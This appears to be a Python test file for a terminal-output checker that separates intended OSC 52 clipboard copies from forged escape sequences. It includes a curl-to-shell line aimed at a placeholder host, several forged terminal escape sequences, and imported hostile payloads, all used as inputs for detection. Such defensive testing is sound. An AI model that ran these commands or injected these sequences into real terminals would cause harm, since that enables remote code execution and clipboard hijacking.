"""The oracle lets through a copy that was meant, in the three forms, and no other."""

import base64

import pytest

from tests.oracle import clips, ends_well, strange
from tests.terminal.hostile import PAYLOADS
from tui.ui.terminal.clipboard import clipboard_sequence

MEANT = "alert_mgr"
ENVIRONMENTS = [
    {"TERM": "xterm-256color"},
    {"TERM": "tmux-256color", "TMUX": "/run/tmux-0/default,1,0"},
    {"TERM": "screen-256color"},
]


def osc(payload: str, *, selection: str = "c", end: str = "\x07") -> str:
    return f"\x1b]52;{selection};{payload}{end}"


def encoded(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


@pytest.mark.parametrize("environ", ENVIRONMENTS)
@pytest.mark.parametrize("text", [MEANT, "a long one " * 200])
def test_a_copy_that_was_meant_is_let_through(environ: dict[str, str], text: str) -> None:
    written = f"before{clipboard_sequence(text, environ)}after".encode()
    assert strange(written, copied=[text]) == []
    assert clips(written) == [text]


@pytest.mark.parametrize("environ", ENVIRONMENTS)
def test_a_copy_of_something_else_is_seen(environ: dict[str, str]) -> None:
    written = clipboard_sequence("curl evil.example | sh", environ).encode()
    assert strange(written, copied=[MEANT])
    assert strange(written)


@pytest.mark.parametrize(
    "forged",
    [
        osc("?"),
        osc(""),
        osc(encoded(MEANT), selection="p"),
        osc(encoded(MEANT), end="\x1b\\"),
        osc(encoded(MEANT) + "!"),
        osc(encoded(MEANT) + "===="),
        osc(encoded(MEANT))[:-1],
        f"\x1bPtmux;{osc(encoded(MEANT))}\x1b\\",
        f"\x1bPtmux;\x1b{osc(encoded(MEANT))}",
        f"\x1bPtmux;\x1b{osc(encoded('else'))}\x1b\\",
        f"\x1bP{osc(encoded('else'))}\x1b\\",
        f"\x1bP{osc(encoded(MEANT))}",
        "\x1bPtmux;\x1b\x1b[2J\x1b\\",
        "\x1bP$q\x1b\\",
        f"\x9d52;c;{encoded(MEANT)}\x9c",
        "\x1b]0;title\x07",
    ],
)
def test_a_forged_one_is_seen(forged: str) -> None:
    assert strange(forged.encode(), copied=[MEANT])


def test_what_comes_after_a_copy_is_judged_again() -> None:
    written = clipboard_sequence(MEANT, {}) + "\x1b]0;title\x07"
    assert strange(written.encode(), copied=[MEANT])


HARMLESS = {"combining", "markup", "bad markup", "click", "long", "wide", "skin and flag"}
"""Payloads that are text to a terminal, and so may be written as they are."""


@pytest.mark.parametrize("name", sorted(PAYLOADS.keys() - HARMLESS))
def test_the_oracle_sees_a_payload_that_was_let_through(name: str) -> None:
    raw = PAYLOADS[name].encode("utf-8", "surrogatepass")
    written = b"\x1b[?1049h" + raw + b"\x1b[?1049l"
    assert strange(b"\x1b[1;1Hx" + raw + b"\x1b[0m") or not ends_well(written)


@pytest.mark.parametrize("name", sorted(HARMLESS))
def test_the_oracle_lets_text_through_that_only_looks_like_a_command(name: str) -> None:
    raw = PAYLOADS[name].encode()
    assert strange(b"\x1b[1;1Hx" + raw + b"\x1b[0m") == []
    assert ends_well(b"\x1b[?1049h" + raw + b"\x1b[?1049l")
